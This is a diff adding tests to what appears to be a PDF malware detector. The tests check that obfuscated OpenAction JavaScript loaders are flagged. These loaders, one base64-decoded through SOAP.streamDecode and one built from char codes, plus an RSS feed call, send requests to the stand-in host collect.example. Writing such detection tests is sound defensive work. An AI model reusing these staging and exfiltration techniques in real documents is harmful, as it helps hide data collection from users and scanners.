@@ -196,3 +196,40 @@ describe("javascript-obfuscated-emulation-failed", () => {
     expect(javascriptObfuscatedEmulationFailed.check(loop.facts, defaultBudget())).toBeNull();
   });
 });
+
+describe("javascript-network-or-launch on staged loaders (malicious-pdf --obfuscate 4)", () => {
+  const openScript = (js: string) => {
+    const b = new PdfBuilder();
+    b.addCatalog(`/OpenAction << /S /JavaScript /JS ${hexString(js)} >>`);
+    return b.build();
+  };
+  const excerpts = async (js: string) => {
+    const a = await analyzePdfScripts(openScript(js), engines);
+    return (javascriptNetworkOrLaunch.check(a.facts, defaultBudget())?.evidence ?? []).map((e) => e.excerpt);
+  };
+  const base64 = (s: string) => Buffer.from(s, "latin1").toString("base64");
+
+  it("sees the call a base64 payload decoded by SOAP.streamDecode makes", async () => {
+    const payload = base64('this.submitForm({cURL: "https://collect.example/staged"});');
+    expect(
+      await excerpts(`eval(util.stringFromStream(SOAP.streamDecode(util.streamFromString("${payload}"), "base64")));`),
+    ).toEqual([expect.stringContaining("this.submitForm: hxxps[://]collect[.]example/staged")]);
+  });
+
+  it("sees a web request in code assembled from char codes, which the sandbox has no stub for", async () => {
+    const codes = [...'fetch("https://collect.example/cc")'].map((c) => c.charCodeAt(0)).join(",");
+    expect(await excerpts(`eval(String.fromCharCode(${codes}));`)).toEqual([
+      expect.stringContaining("fetch (remote) (decoded code): hxxps[://]collect[.]example/cc"),
+    ]);
+  });
+
+  it("sees an RSS feed subscription, and nothing for a staged script that only formats a field", async () => {
+    expect(await excerpts('RSS.addFeed({cURL: "https://collect.example/feed"});')).toEqual([
+      expect.stringContaining("RSS.addFeed"),
+    ]);
+    const harmless = base64('event.value = util.printx("999-99-9999", event.value);');
+    expect(
+      await excerpts(`eval(util.stringFromStream(SOAP.streamDecode(util.streamFromString("${harmless}"), "base64")));`),
+    ).toEqual([]);
+  });
+});
